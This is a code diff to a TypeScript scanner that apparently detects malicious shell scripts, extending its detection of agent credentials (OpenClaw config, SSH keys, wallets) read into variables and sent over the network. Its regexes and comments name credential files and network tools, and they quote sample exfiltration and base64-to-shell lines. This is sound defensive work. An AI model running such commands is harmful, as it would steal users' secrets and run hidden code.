@@ -100,6 +100,9 @@ export function analyzeShell(text: string, sink: SignalSink, lineAt: (offset: nu
   if (!/curl|wget|fetch|iwr|irm|invoke|download|bits|certutil|base64|powershell|pwsh|node|bun|deno|python|perl|ruby|dev\/|nc|socat|mkfifo|xattr|spctl|mppreference|chmod|sh\b|bash|iex|hostname|whoami|uname|\$|%|env|gci|rev\b|xxd|printf|""|''|authorized_keys|index|registry/i.test(text)) return { runsFiles };
   const vars = new Map<string, string>();
   if (text.length < 200000) for (const a of text.matchAll(ASSIGNMENT)) if (!vars.has(a[1])) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
+  // Variables whose value is read out of an agent or key store: `tok=$(jq -r .token ~/.openclaw/openclaw.json)`.
+  const secretVars = new Set<string>();
+  if (text.length < 200000) for (const a of text.matchAll(SECRET_ASSIGNMENT)) if (AGENT_SECRET_FILE.test(a[2])) secretVars.add(a[1]);
   for (const { text: cmd, offset } of logicalLines(text)) {
     if (cmd.length > 20000) continue;
     const line = lineAt(offset);
@@ -146,12 +149,16 @@ export function analyzeShell(text: string, sink: SignalSink, lineAt: (offset: nu
     RUNS_FILE.lastIndex = 0;
     let m: RegExpExecArray | null;
     while ((m = RUNS_FILE.exec(cmd))) runsFiles.push(m[1]);
-    const up = UPLOAD_COMMAND.exec(cmd);
+    // `f=~/.openclaw/openclaw.json` earlier and `curl --data-binary @"$f"` here: judge the path the variable holds.
+    const rcmd = vars.size > 0 && /\$/.test(cmd) ? resolveVars(cmd, vars) : cmd;
+    const up = UPLOAD_COMMAND.exec(rcmd);
     // The credential must be an argument of the upload command itself, not a word later in the sentence.
-    if (up && SECRET_FILE.test(cmd.slice(up.index).split(/[;&|`]|\.\s|\s#/)[0])) sink.add('shell.secret-upload', line, cmd);
+    if (up && SECRET_FILE.test(rcmd.slice(up.index).split(/[;&|`]|\.\s|\s#/)[0])) sink.add('shell.secret-upload', line, cmd);
+    // `tok=$(jq -r .token ~/.openclaw/openclaw.json)` earlier, `curl "https://x/?t=$tok"` here: an agent secret sent off the machine.
+    else if (secretVars.size > 0 && NET_SEND.test(cmd) && !/\b(?:localhost|127\.0\.0\.1|\[::1\])\b/.test(cmd) && sendsSecretVar(cmd, secretVars)) sink.add('shell.secret-upload', line, cmd);
     // `tar czf - ~/.openclaw/credentials | curl -F f=@- …`: secrets read by one stage, sent by the next from stdin.
-    else if (up && up.index > 0 && STDIN_UPLOAD.test(cmd.slice(up.index).split(/[;&`]/)[0])) {
-      const pipeline = cmd.slice(0, up.index).split(/;|&&|\|\|/).pop() ?? '';
+    else if (up && up.index > 0 && STDIN_UPLOAD.test(rcmd.slice(up.index).split(/[;&`]/)[0])) {
+      const pipeline = rcmd.slice(0, up.index).split(/;|&&|\|\|/).pop() ?? '';
       if (/\|\s*$/.test(pipeline) && SECRET_FILE.test(pipeline)) sink.add('shell.secret-upload', line, cmd);
     }
     if (DOWNLOAD_EXTRACT.test(cmd)) extractThenRun(cmd, sink, line, resolveVars(cmd, vars));
@@ -222,6 +229,28 @@ const UPLOAD_COMMAND = /\bgh\s+(?:gist|issue|pr|release|api)\b|\b(?:curl|wget|nc
 /** Credential files and stores (not public keys). */
 const SECRET_FILE = /(?:~|\$HOME|\$\{HOME\})\/\.(?:openclaw|clawdbot|ssh|aws|gnupg|kube|config\/gh)\/?\*?(?=[\s"']|$)|(?:\.openclaw|\.clawdbot)[\\/][^\s"']*(?:openclaw\.json|credentials|auth-profiles|sessions)|\b(?:openclaw|clawdbot)\.json\b|auth-profiles\.json|\.ssh[\\/](?:id_\w*\*?(?!\.pub)|\*)|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws[\\/]credentials|\.npmrc\b|\.git-credentials|\.env\b|\.kube[\\/]config|\.docker[\\/]config\.json|wallet\.dat|keystore|\.config[\\/]gcloud|login\.keychain|Login\s+Data|cookies\.sqlite|\/etc\/shadow/i;
 
+/** `name=$(… file …)` / ``name=`…` ``: a variable filled from a command that reads a file. */
+const SECRET_ASSIGNMENT = /(?:^|[\s;&|(])(?:export\s+|local\s+)?([A-Za-z_]\w{0,30})=["']?(?:\$\(([^)\n]{1,300})\)|`([^`\n]{1,300})`)/g;
+/** Stores no third-party API needs in a request: OpenClaw config and credentials, SSH private keys, wallets. */
+const AGENT_SECRET_FILE = /\b(?:openclaw|clawdbot)\.json\b|(?:\.openclaw|\.clawdbot)[\\/][^\s"']*(?:credentials|auth-profiles)|auth-profiles\.json|\.ssh[\\/]id_\w+(?!\.pub)|wallet\.dat|\.aws[\\/]credentials/i;
+/**
+ * A variable read from an agent store appears as data in the command (`?t=$tok`, `-d "p=$tok"`), and the
+ * destination itself did not come out of that store (`"$gateway_url/health"` is the user's own gateway).
+ */
+function sendsSecretVar(cmd: string, secretVars: Set<string>): boolean {
+  let data = false;
+  for (const v of cmd.matchAll(/\$\{?([A-Za-z_]\w*)\}?/g)) {
+    if (!secretVars.has(v[1])) continue;
+    const i = v.index ?? 0;
+    const after = cmd.slice(i + v[0].length, i + v[0].length + 6);
+    if (/:\/\/$/.test(cmd.slice(Math.max(0, i - 3), i)) || /^(?:\/|:\d)/.test(after)) return false;
+    data = true;
+  }
+  return data;
+}
+/** A command that sends something over the network. */
+const NET_SEND = /\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|http|https|xh)\b|\b(?:nslookup|dig|host)\s/i;
+
 /** Appending a key to authorized_keys: remote access that survives every password change. */
 const AUTHORIZED_KEYS_WRITE = /(?:>>|\btee\s+-a\b[^|;&\n]*?|\bcat\b[^|;&\n]*>>)\s*["']?[~\w$/{}.-]*\.ssh\/authorized_keys2?\b|\bssh-copy-id\b[^\n]*\s(?:-i\s+)?\S*@(?:\d{1,3}\.){3}\d{1,3}|\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA[A-Za-z0-9+/]{30,}[^\n]*authorized_keys/i;
 /** Package installers pointed at another index or registry on a raw IP or plain http. */
@@ -236,10 +265,10 @@ const XXD_HEX = /(?:echo|printf)\s+(?:-[neE]+\s+)*["']?((?:[0-9a-fA-F]{2}\s?){8,
 const PRINTF_ESCAPES = /(?:printf|echo\s+-e|echo\s+\$)\s*["'$]*((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}|[^"'\\\n]){0,40}(?:(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})[^"'\n]{0,4}){6,}[^"'\n]{0,200})/g;
 
 /** `echo DATA | dec | dec …`: the data and the decoder stages after it. */
-const ECHO_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(["']?)([A-Za-z0-9+/=_-]{16,})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
+const ECHO_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?(["']?)([A-Za-z0-9+/=_-]{16,})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
 
 /** `echo "$a$b${c}" | dec …`: data made only of variables, and the decoder stages after it. */
-const ECHO_VARS_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(["']?)((?:\$\{?[A-Za-z_]\w*\}?){1,40})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
+const ECHO_VARS_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?(["']?)((?:\$\{?[A-Za-z_]\w*\}?){1,40})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
 
 /** Apply a pipeline of decoders in order; undefined when a stage is unknown or the result is not text. */
 function runDecoders(data: string, stages: string): { text: string; how: string } | undefined {
@@ -309,7 +338,7 @@ function deobfuscate(text: string, sink: SignalSink, lineAt: (offset: number) =>
     if (d) payloads.push({ decoded: d.text, how: d.how, offset: m.index ?? 0 });
   }
   // `k1='…'; k2='…'; echo "$k1$k2" | base64 -d | sh`: parts assigned earlier, joined only at the decoder.
-  if (/(?:echo|printf)\s+(?:-[neE]+\s+)*["']?\$/.test(text)) {
+  if (/(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?["']?\$/.test(text)) {
     const vars = new Map<string, string>();
     for (const a of text.matchAll(ASSIGNMENT)) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
     for (const m of text.matchAll(ECHO_VARS_PIPELINE)) {
